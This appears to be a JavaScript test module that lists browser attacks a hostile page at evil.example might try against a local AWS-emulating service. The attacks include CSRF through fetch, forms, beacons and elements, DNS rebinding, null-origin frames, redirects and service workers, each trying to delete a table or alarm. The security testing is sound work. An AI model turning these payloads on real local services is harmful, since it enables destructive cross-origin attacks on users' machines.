// What web pages of strangers try. Each attack has a table and an alarm of its own name to delete, and returns what it could read
// of the answers, or nothing.
import { rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { pathToFileURL } from "node:url";

// presigned is a signature in a query string, which no browser takes away.
const presigned = (service) => `X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKID%2F20260101%2Fus-east-1%2F${service}%2Faws4_request` +
  "&X-Amz-Date=20260101T000000Z&X-Amz-SignedHeaders=host&X-Amz-Signature=00";

// deleteTable is what scripts in pages run: fetch, with headers that a form can't send.
export const deleteTable = `async (url, TableName) => {
  try {
    const answer = await fetch(url, {
      method: "POST", body: JSON.stringify({ TableName }),
      headers: {
        "Content-Type": "application/x-amz-json-1.0", "X-Amz-Target": "DynamoDB_20120810.DeleteTable", "X-Amz-Date": "20260101T000000Z",
        Authorization: "AWS4-HMAC-SHA256 Credential=AKID/20260101/us-east-1/dynamodb/aws4_request, SignedHeaders=host, Signature=00",
      },
    });
    return answer.status + " " + await answer.text();
  } catch (error) {
    if (error instanceof TypeError) return; // the browser says no more
    throw error;
  }
}`;

// query is a request of CloudWatch's Query protocol that deletes the alarm.
export const query = (name) => `Action=DeleteAlarms&Version=2010-08-01&AlarmNames.member.1=${name}`;

// run runs the text of a function in the page.
const run = (page, text, ...args) => page.evaluate(`(${text})(...${JSON.stringify(args)})`);

// simple sends what needs no preflight, and can't see the answer.
const simple = (name, type) => ({
  name,
  run: (page, url) => page.evaluate(async (url, body, type) => {
    try {
      await fetch(url, { method: "POST", mode: "no-cors", body, headers: { "Content-Type": type } });
    } catch (error) {
      if (!(error instanceof TypeError)) throw error;
    }
  }, `${url}&${presigned("monitoring")}`, query(name), type),
});

// form submits a form, whose answer goes into a frame.
const form = (name, enctype) => ({
  name,
  run: (page, url) => page.evaluate(async (action, body, enctype) => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    frame.name = enctype;
    const form = document.body.appendChild(document.createElement("form"));
    Object.assign(form, { action, enctype, method: "POST", target: frame.name });
    for (const [name, value] of new URLSearchParams(body)) {
      form.appendChild(Object.assign(document.createElement("input"), { name, value }));
    }
    form.submit();
  }, `${url}&${presigned("monitoring")}`, query(name), enctype),
});

// element lets the page load the metrics as a part of itself.
const element = (name, tag, attribute) => ({
  name,
  run: (page, url) => page.evaluate(async (url, tag, attribute) => {
    const element = document.createElement(tag);
    if (tag === "link") element.rel = "stylesheet";
    const loaded = new Promise((resolve) => { element.onload = () => resolve("loaded"); element.onerror = () => resolve(); });
    element[attribute] = url;
    document.body.appendChild(element);
    const result = await loaded;
    return tag === "iframe" ? element.contentDocument?.body.innerText : result;
  }, url.replace("/?", "/metrics?"), tag, attribute),
});

// rebinding is what the attacker does whose DNS server says, once the page is there, that its name is this machine: page and server
// are of one origin.
const rebinding = (name, host) => ({
  name, succeeds: true,
  run: async (page, url) => {
    const rebound = new URL(url);
    rebound.hostname = host;
    await page.goto(`${rebound.origin}/attacker`);
    return run(page, deleteTable, rebound.href, name);
  },
});

// redirect asks a page's server, which sends the request on. Browsers drop the Authorization header then.
const redirect = (name, from) => ({
  name, succeeds: true,
  run: (page, url, _, pages) => run(page, deleteTable, `${from(pages)}/redirect?to=${encodeURIComponent(`${url}&${presigned("dynamodb")}`)}`, name),
});

// attacks run in a page of http://evil.example. To those that succeed a server falls that lets in every origin and host: the attack
// is a true one.
export const attacks = [
  { name: "fetch", succeeds: true, run: (page, url, name) => run(page, deleteTable, url, name) },
  simple("fetch-form", "application/x-www-form-urlencoded"),
  simple("fetch-text", "text/plain"),
  {
    name: "beacon",
    run: (page, url, name) => page.evaluate((url, body) => { navigator.sendBeacon(url, new URLSearchParams(body)); }, `${url}&${presigned("monitoring")}`, query(name)),
  },
  form("form", "application/x-www-form-urlencoded"),
  form("form-text", "text/plain"),
  form("form-multipart", "multipart/form-data"),
  element("image", "img", "src"),
  element("script", "script", "src"),
  element("style", "link", "href"),
  element("frame", "iframe", "src"),
  {
    name: "event-source",
    run: (page, url) => page.evaluate((url) => new Promise((resolve) => {
      const source = new EventSource(url);
      source.onopen = () => resolve("open");
      source.onmessage = ({ data }) => resolve(data);
      source.onerror = () => resolve();
    }), url),
  },
  {
    name: "web-socket",
    run: (page, url) => page.evaluate((url) => new Promise((resolve) => {
      const socket = new WebSocket(url.replace("http:", "ws:"));
      socket.onopen = () => resolve("open");
      socket.onclose = () => resolve();
    }), url),
  },
  {
    // A link to the metrics, which opens another tab.
    name: "link",
    run: async (page, url) => {
      const [popup] = await Promise.all([
        new Promise((resolve) => { page.once("popup", resolve); }),
        page.evaluate((url) => { window.popup = window.open(url); }, url.replace("/?", "/metrics?")),
      ]);
      await popup.waitForFunction(() => document.readyState === "complete");
      const text = await page.evaluate(() => { try { return window.popup.document?.body.innerText; } catch { return undefined; } });
      await popup.close();
      return text;
    },
  },
  rebinding("rebinding", "evil.example"),
  rebinding("rebinding-below", "127.0.0.1.evil.example"),
  rebinding("rebinding-dot", "evil.example."),
  {
    // A frame that has no origin: null.
    name: "sandbox", succeeds: true,
    run: (page, url, name) => page.evaluate((script, url, name) => new Promise((resolve) => {
      window.onmessage = ({ data }) => resolve(data[0]);
      const frame = document.createElement("iframe");
      frame.sandbox = "allow-scripts";
      frame.srcdoc = `<script>(${script})(${JSON.stringify(url)}, ${JSON.stringify(name)}).then((read) => parent.postMessage([read], "*"))</script>`;
      document.body.appendChild(frame);
    }), deleteTable, url, name),
  },
  {
    name: "file", succeeds: true,
    run: async (page, url, name) => {
      const file = path.join(tmpdir(), `stator-browser-${process.pid}.html`);
      await writeFile(file, "<p>a page that was sent by mail");
      try {
        await page.goto(pathToFileURL(file).href);
        return await run(page, deleteTable, url, name);
      } finally {
        await rm(file);
      }
    },
  },
  redirect("redirect", ({ port }) => `http://b.evil.example:${port}`), // from site to site: the origin is null then
  redirect("redirect-same", () => ""),
  {
    name: "service-worker", succeeds: true,
    run: (page, url, name) => page.evaluate(async (url, name) => {
      await navigator.serviceWorker.register("/worker.js");
      const { active } = await navigator.serviceWorker.ready;
      const { port1, port2 } = new MessageChannel();
      const read = new Promise((resolve) => { port1.onmessage = ({ data }) => resolve(data[0]); });
      active.postMessage([url, name], [port2]);
      return read;
    }, url, name),
  },
];

// worker is the script of the service worker.
export const worker = `onmessage = async ({ data, ports }) => { ports[0].postMessage([await (${deleteTable})(...data)]); };`;
